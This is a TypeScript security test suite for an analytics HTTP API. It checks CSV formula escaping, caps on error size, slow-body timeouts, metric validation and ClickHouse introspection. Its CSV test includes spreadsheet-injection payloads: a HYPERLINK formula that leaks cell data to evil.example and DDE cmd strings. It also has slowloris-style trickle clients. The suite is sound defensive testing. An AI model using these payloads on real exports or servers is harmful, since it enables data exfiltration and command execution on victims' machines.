// Input hardening (security review, findings 7 and 8), each attack through the
// public HTTP API:
// - CSV exports neutralise spreadsheet formulas (OWASP "CSV Injection") and
//   download as an attachment named after the query;
// - validation errors are capped and never echo the input in bulk;
// - a request body that trickles in is cut off (408) by a real listening server;
// - malformed conversion metrics and a ClickHouse "server" that answers like
//   something else are 4xx with a clear message, never a 500 or a JS error text.
import http, { type Server } from 'node:http'
import net from 'node:net'
import type { AddressInfo } from 'node:net'
import { serve } from '@hono/node-server'
import { createClient } from '@clickhouse/client'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { sql } from 'drizzle-orm'
import { createTestApp, type TestApp, type TestResponse } from '../support/test-app'
import { SERVICES, serviceAvailable } from '../support/services'
import { answerClientErrors, requestTimeoutOptions } from '../../src/http/server-timeouts'
import { demoSemanticFiles } from '../../src/bootstrap'

const NOW = new Date('2026-11-23T12:00:00Z')
const chOk = await serviceAvailable('clickhouse')
const LIMITS = { NEXATRON_RATE_LIMIT_PER_HOUR: '100000', NEXATRON_TENANT_RATE_LIMIT_PER_HOUR: '100000', NEXATRON_LOGIN_RATE_LIMIT_PER_15MIN: '100000' }
let t: TestApp & { demoConnectionId?: string; demoDb?: import('@electric-sql/pglite').PGlite }

beforeAll(async () => { t = await createTestApp(LIMITS, { demo: true, now: () => NOW }) })
afterAll(async () => { await t?.close() })

const expectClientError = async (res: TestResponse | Response, status?: number) => {
  const text = await res.text()
  if (status !== undefined) expect(res.status, text.slice(0, 400)).toBe(status)
  expect(res.status, text.slice(0, 400)).toBeGreaterThanOrEqual(400)
  expect(res.status, text.slice(0, 400)).toBeLessThan(500)
  const body = JSON.parse(text)
  expect(Object.keys(body)).toEqual(['error'])
  expect(typeof body.error.code).toBe('string')
  expect(typeof body.error.message).toBe('string')
  expect(Array.isArray(body.error.details)).toBe(true)
  expect(body.error.request_id).toBe(res.headers.get('x-request-id'))
  return { body, text }
}

// ---------------------------------------------------------------------------
// Finding 7: CSV formula injection

describe('CSV exports', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
  ]

  beforeAll(async () => {
    // The warehouse itself holds the payloads: product names an attacker could have entered upstream.
    const db = t.demoDb!
    for (const [i, name] of HOSTILE.entries()) await db.query('UPDATE retail.products SET product_name = $1 WHERE product_id = $2', [name, i + 1])
    // A product whose sales add up to exactly -12.5 (refunds): a true number that must stay numeric.
    await db.query('UPDATE retail.products SET product_name = $1 WHERE product_id = 7', ['Refunded widget'])
    await db.query('UPDATE retail.order_items SET amount = 0 WHERE product_id = 7')
    await db.query('UPDATE retail.order_items SET amount = -12.5 WHERE order_item_id = (SELECT min(order_item_id) FROM retail.order_items WHERE product_id = 7)')
  })

  it('neutralises cells that a spreadsheet would run as formulas, keeps numbers numeric, and downloads as <query-id>.csv', async () => {
    const res = await t.request('POST', '/api/v1/query', { body: { question: 'total sales by product', format: 'csv', max_rows: 1000 } })
    const text = await res.text()
    expect(res.status, text.slice(0, 300)).toBe(200)
    expect(res.headers.get('content-type')).toContain('text/csv')
    const id = res.headers.get('x-nexatron-query-id')
    expect(id).toMatch(/^qry_/)
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${id}.csv"`)

    // Every payload arrives as quoted text starting with a single quote.
    for (const payload of HOSTILE) expect(text).toContain(`"'${payload.replace(/"/g, '""')}"`)
    // No line has a cell that starts with a formula trigger outside quotes.
    const lines = text.split('\r\n').filter(Boolean)
    for (const line of lines) expect(line, line).not.toMatch(/(^|,)[=+@\t\r]/)
    // -12.5 from the numeric metric column stays a bare number.
    const refunded = lines.find((l) => l.includes('Refunded widget'))
    expect(refunded, text.slice(0, 500)).toBeDefined()
    expect(refunded!.split(',')).toContain('-12.5')
  })
})

// ---------------------------------------------------------------------------
// Finding 8: validation errors are capped and never echo the input

describe('validation errors', () => {
  it('refuses 60,000 unknown fields on an unauthenticated login with one short answer', async () => {
    const body: Record<string, unknown> = { email: 'ada@example.com', password: 'whatever password' }
    for (let i = 0; i < 60_000; i++) body[`u${i}`] = 0
    const raw = JSON.stringify(body)
    expect(raw.length).toBeGreaterThan(600_000)
    const res = await t.request('POST', '/api/v1/auth/login', { key: null, body: raw })
    const { body: err, text } = await expectClientError(res, 400)
    expect(err.error.code).toBe('validation_error')
    expect(text.length).toBeLessThan(4_000)
    expect(err.error.details.length).toBeLessThanOrEqual(21)
    // At most a few names are shown; the rest are counted.
    expect((text.match(/\bu\d+\b/g) ?? []).length).toBeLessThanOrEqual(10)
    expect(text).toContain('60000')
  })

  it('names a single unknown field by its path', async () => {
    const res = await t.request('POST', '/api/v1/auth/login', { key: null, body: { email: 'ada@example.com', password: 'x', admin: true } })
    const { body } = await expectClientError(res, 400)
    expect(body.error.details[0]).toMatchObject({ path: 'admin', issue: 'unknown_field' })
  })

  it('does not echo a huge unknown field name', async () => {
    const name = `k${'x'.repeat(200_000)}`
    const res = await t.request('POST', '/api/v1/auth/login', { key: null, body: { email: 'ada@example.com', password: 'x', [name]: 1 } })
    const { text } = await expectClientError(res, 400)
    expect(text.length).toBeLessThan(4_000)
  })

  it('caps the issues of a body with thousands of invalid items at 20 plus a count', async () => {
    const files = Array.from({ length: 2_000 }, () => ({ path: 1, content: 2 }))
    const res = await t.request('POST', '/api/v1/semantic/import', { body: { connection_id: t.demoConnectionId, files } })
    const { body, text } = await expectClientError(res, 400)
    expect(body.error.details.length).toBeLessThanOrEqual(21)
    expect(body.error.details.at(-1)).toMatchObject({ issue: 'more_issues' })
    expect(body.error.details.at(-1).count).toBeGreaterThan(3_000)
    expect(text.length).toBeLessThan(8_000)
  })

  it('refuses 60,000 unknown connection config fields without listing them', async () => {
    const config: Record<string, unknown> = { host: '127.0.0.1', database: 'x', user: 'x' }
    for (let i = 0; i < 60_000; i++) config[`o${i}`] = 0
    const res = await t.request('POST', '/api/v1/connections', { body: { name: 'many fields', type: 'postgres', config } })
    const { text } = await expectClientError(res)
    expect(text.length).toBeLessThan(8_000)
    expect((text.match(/\bo\d+\b/g) ?? []).length).toBeLessThanOrEqual(10)
  })
})

// ---------------------------------------------------------------------------
// Finding 8: slow request bodies on a real listening server

describe('request body timeout (real listening server)', () => {
  let slow: TestApp
  let server: Server
  let port = 0

  beforeAll(async () => {
    slow = await createTestApp({ ...LIMITS, NEXATRON_BODY_TIMEOUT_MS: '600', NEXATRON_MAX_BODY_BYTES: '2048' })
    server = serve({ fetch: slow.app.fetch, port: 0, hostname: '127.0.0.1', serverOptions: requestTimeoutOptions(slow.services.config.bodyTimeoutMs) }) as Server
    answerClientErrors(server)
    await new Promise<void>((resolve) => (server.listening ? resolve() : server.once('listening', () => resolve())))
    port = (server.address() as AddressInfo).port
  })
  afterAll(async () => {
    if (server) await new Promise<void>((resolve) => { server.closeAllConnections(); server.close(() => resolve()) })
    await slow?.close()
  })

  /** Sends `head`, then one `drip` every 100 ms until the server closes the socket (or `giveUpMs`). */
  function trickle(head: string, drip: string, giveUpMs = 8_000): Promise<{ raw: string; ms: number; closedByServer: boolean }> {
    return new Promise((resolve) => {
      const started = Date.now()
      const socket = net.connect(port, '127.0.0.1')
      let raw = ''
      let done = false
      const finish = (closedByServer: boolean) => {
        if (done) return
        done = true
        clearInterval(timer)
        clearTimeout(giveUp)
        socket.destroy()
        resolve({ raw, ms: Date.now() - started, closedByServer })
      }
      const timer = setInterval(() => { if (socket.writable) socket.write(drip) }, 100)
      const giveUp = setTimeout(() => finish(false), giveUpMs)
      socket.on('data', (d) => { raw += d.toString('utf8') })
      socket.on('close', () => finish(true))
      socket.on('error', () => finish(true))
      socket.write(head)
    })
  }

  const envelopeOf = (raw: string) => {
    const [head, ...rest] = raw.split('\r\n\r\n')
    const json = /\{"error":[\s\S]*\}/.exec(rest.join('\r\n\r\n'))?.[0]
    return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1]), head, body: json ? JSON.parse(json) : undefined }
  }

  it('answers 408 with the envelope and closes the connection when the body trickles in', async () => {
    const head = 'POST /api/v1/auth/login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1500\r\n\r\n{"email":'
    const { raw, ms, closedByServer } = await trickle(head, ' ')
    expect(closedByServer, `still open after ${ms} ms; got ${raw.slice(0, 200)}`).toBe(true)
    expect(ms).toBeLessThan(4_000)
    const res = envelopeOf(raw)
    expect(res.status, raw.slice(0, 300)).toBe(408)
    expect(res.body.error.code).toBe('request_timeout')
    expect(res.body.error.request_id).toMatch(/^req_/)
    expect(res.head.toLowerCase()).toContain(`x-request-id: ${res.body.error.request_id.toLowerCase()}`)
  })

  it('answers 408 with the envelope when the headers trickle in', async () => {
    const { raw, ms, closedByServer } = await trickle('GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n', 'X-Pad: a\r\n')
    expect(closedByServer, `still open after ${ms} ms`).toBe(true)
    expect(ms).toBeLessThan(4_000)
    const res = envelopeOf(raw)
    expect(res.status, raw.slice(0, 300)).toBe(408)
    expect(res.body.error.code).toBe('request_timeout')
  })

  /** Posts `chunks` to the login route on the listening server, chunked unless `length` is declared. */
  async function postRaw(chunks: string[], length?: number): Promise<{ status: number; body: { error: { code: string } } }> {
    const res = await new Promise<http.IncomingMessage & { text: string }>((resolve, reject) => {
      const req = http.request({ host: '127.0.0.1', port, method: 'POST', path: '/api/v1/auth/login',
        headers: { 'content-type': 'application/json', ...(length !== undefined ? { 'content-length': length } : {}) } }, (r) => {
        let text = ''
        r.on('data', (d) => { text += d })
        r.on('end', () => resolve(Object.assign(r, { text })))
      })
      req.on('error', reject)
      for (const c of chunks) req.write(c)
      req.end()
    })
    return { status: res.statusCode!, body: JSON.parse(res.text) }
  }

  it('refuses a declared length over the limit with 413 before reading the body', async () => {
    const body = JSON.stringify({ email: 'x'.repeat(3000), password: 'p' })
    const res = await postRaw([body], Buffer.byteLength(body))
    expect(res.status).toBe(413)
    expect(res.body.error.code).toBe('payload_too_large')
  })

  it('counts a chunked body as it arrives and refuses it with 413 past the limit', async () => {
    const res = await postRaw(['{"email":"', 'x'.repeat(1500), 'x'.repeat(1500), '","password":"p"}'])
    expect(res.status).toBe(413)
    expect(res.body.error.code).toBe('payload_too_large')
  })

  it('reads a chunked body within the limit like a declared one', async () => {
    const res = await postRaw(['{"email":"nobody@', 'example.com","password":"wrong password"}'])
    expect(res.status).toBe(401)
    expect(res.body.error.code).toBe('unauthorized')
  })

  it('still serves a body that arrives in time', async () => {
    const res = await fetch(`http://127.0.0.1:${port}/api/v1/auth/login`, {
      method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email: 'nobody@example.com', password: 'wrong password' }),
    })
    expect(res.status).toBe(401)
    expect(((await res.json()) as { error: { code: string } }).error.code).toBe('unauthorized')
  })
})

// ---------------------------------------------------------------------------
// Finding 8: malformed conversion metrics

describe('conversion metrics with malformed conversion_type_params', () => {
  const OK = { base_measure: 'order_count', conversion_measure: 'order_count', entity: 'customer', window: '7 days' }
  const BAD: Array<[string, unknown]> = [
    ['null', null], ['a string', 'x'], ['a number', 5], ['a list', [1]], ['an empty object', {}],
    ['a measure that is an object without name', { ...OK, base_measure: { x: 1 } }],
    ['a measure that is a number', { ...OK, conversion_measure: 5 }],
    ['constant_properties as a string', { ...OK, constant_properties: 'x' }],
    ['constant_properties holding null', { ...OK, constant_properties: [null, 5] }],
    ['an unknown calculation', { ...OK, calculation: 'nope' }],
    ['an unknown key', { ...OK, extra: 1 }],
  ]

  it.each(BAD)('refuses a metric whose conversion_type_params is %s with 400, never storing it', async (label, params) => {
    const name = `conv_${label.replace(/\W+/g, '_')}`
    const res = await t.request('POST', '/api/v1/semantic/metrics', { body: { name, type: 'conversion', type_params: { conversion_type_params: params } } })
    const { body } = await expectClientError(res)
    expect(body.error.message).not.toMatch(/Cannot read|undefined|is not a function/)
    expect(JSON.stringify(body.error.details)).toContain('conversion_type_params')
    const list = await (await t.request('GET', '/api/v1/semantic/metrics?limit=100')).json()
    expect(list.data.map((m: { name: string }) => m.name)).not.toContain(name)
  })

  it('refuses a PATCH that breaks conversion_type_params', async () => {
    const created = await t.request('POST', '/api/v1/semantic/metrics', { body: { name: 'conv_patch_me', type: 'conversion', type_params: { conversion_type_params: OK } } })
    expect(created.status, await created.clone().text()).toBe(201)
    const id = (await created.json()).id
    await expectClientError(await t.request('PATCH', `/api/v1/semantic/metrics/${id}`, { body: { type_params: { conversion_type_params: { base_measure: 7 } } } }))
    await t.request('DELETE', `/api/v1/semantic/metrics/${id}`)
  })

  it('refuses a MetricFlow import whose conversion metric has conversion_type_params: null', async () => {
    const yaml = 'metrics:\n  - name: conv_null\n    type: conversion\n    type_params:\n      conversion_type_params: null\n'
    const res = await t.request('POST', '/api/v1/semantic/import', { body: {
      connection_id: t.demoConnectionId, files: [...demoSemanticFiles(), { path: 'conv.yaml', content: yaml }], mode: 'merge', refresh_sample_values: false,
    } })
    const { body } = await expectClientError(res, 422)
    expect(body.error.code).toBe('invalid_model')
    expect(JSON.stringify(body.error.details)).toContain('conversion_type_params')
  })

  it('answers 422 (not 500) for a malformed conversion metric already in the store', async () => {
    const created = await t.request('POST', '/api/v1/semantic/metrics', { body: { name: 'conv_legacy', type: 'conversion', type_params: { conversion_type_params: OK } } })
    expect(created.status, await created.clone().text()).toBe(201)
    const id = (await created.json()).id
    // A record written before the API validated this field.
    await t.services.store.db.execute(sql`UPDATE semantic_metrics SET definition = jsonb_set(definition, '{type_params,conversion_type_params}', '"x"') WHERE id = ${id}`)
    const res = await t.request('POST', '/api/v1/semantic/query', { body: { metrics: ['conv_legacy'], group_by: ['metric_time__month'] } })
    const { body } = await expectClientError(res, 422)
    expect(body.error.message).toContain('conv_legacy')
    expect(body.error.message).not.toMatch(/Cannot read|undefined|is not a function/)
    await t.services.store.db.execute(sql`DELETE FROM semantic_metrics WHERE id = ${id}`)
  })
})

// ---------------------------------------------------------------------------
// Finding 8: ClickHouse schema refresh

describe('ClickHouse schema refresh', () => {
  it('answers 4xx with a clear message when the server answers 200 but is not ClickHouse', async () => {
    // A health endpoint or a load balancer that says "Ok." to everything.
    const fake = http.createServer((req, res) => { req.resume(); req.on('end', () => { res.writeHead(200, { 'content-type': 'text/plain' }); res.end('Ok.\n') }) })
    await new Promise<void>((resolve) => fake.listen(0, '127.0.0.1', () => resolve()))
    try {
      const port = (fake.address() as AddressInfo).port
      const created = await t.request('POST', '/api/v1/connections', { body: {
        name: 'not clickhouse', type: 'clickhouse', config: { host: '127.0.0.1', port, ssl: 'disable' }, credentials: { password: '' }, is_default: false,
        options: { allow_elevated_login: true },
      } })
      expect(created.status, await created.clone().text()).toBe(201)
      const id = (await created.json()).id
      const { body } = await expectClientError(await t.request('GET', `/api/v1/connections/${id}/schema?refresh=true`))
      expect(body.error.message).not.toMatch(/Cannot read|undefined|TypeError|is not a function/)
      expect(body.error.message).toMatch(/ClickHouse/)
      await t.request('DELETE', `/api/v1/connections/${id}`)
    } finally {
      await new Promise<void>((resolve) => fake.close(() => resolve()))
    }
  })

  describe.skipIf(!chOk)('against ClickHouse 18.16', () => {
    const db = `nx_hardening_${Math.random().toString(36).slice(2, 8)}`
    const admin = async (query: string) => {
      const c = createClient({ url: `http://${SERVICES.clickhouse.host}:${SERVICES.clickhouse.port}`, username: 'default', password: '' })
      try { await c.command({ query }) } finally { await c.close() }
    }
    beforeAll(async () => {
      await admin(`CREATE DATABASE \`${db}\``)
      await admin(`CREATE TABLE \`${db}\`.\`tab\tand\nnewline\` (\`odd\tcol\` String, n Nested(a String, b UInt8), e Enum8('x\\ty' = 1, 'z' = 2)) ENGINE = Memory`)
      await admin(`CREATE TABLE \`${db}\`.agg (k String, s AggregateFunction(uniq, String), d Decimal(9, 2)) ENGINE = AggregatingMergeTree() ORDER BY k`)
      await admin(`CREATE VIEW \`${db}\`.v AS SELECT 1 AS x`)
      await admin(`CREATE TABLE \`${db}\`.m AS \`${db}\`.agg ENGINE = Merge('${db}', '^agg$')`)
    })
    afterAll(async () => { await admin(`DROP DATABASE IF EXISTS \`${db}\``).catch(() => {}) })

    it('introspects odd table shapes (names with tabs and newlines, Nested, views, Merge, aggregate states)', async () => {
      const created = await t.request('POST', '/api/v1/connections', { body: {
        name: 'clickhouse odd shapes', type: 'clickhouse', is_default: false, options: { allow_elevated_login: true },
        config: { host: SERVICES.clickhouse.host, port: SERVICES.clickhouse.port, ssl: 'disable', database: db, schemas: [db, 'system'] }, credentials: { password: '' },
      } })
      expect(created.status, await created.clone().text()).toBe(201)
      const id = (await created.json()).id
      const res = await t.request('GET', `/api/v1/connections/${id}/schema?refresh=true`)
      const text = await res.text()
      expect(res.status, text.slice(0, 300)).toBe(200)
      const schema = JSON.parse(text)
      const odd = schema.tables.find((x: { name: string }) => x.name === 'tab\tand\nnewline')
      expect(odd.columns.map((c: { name: string }) => c.name)).toEqual(['odd\tcol', 'n.a', 'n.b', 'e'])
      expect(schema.tables.find((x: { name: string }) => x.name === 'v').kind).toBe('view')
      expect(schema.tables.filter((x: { schema: string }) => x.schema === 'system').length).toBeGreaterThan(10)
      await t.request('DELETE', `/api/v1/connections/${id}`)
    })
  })
})
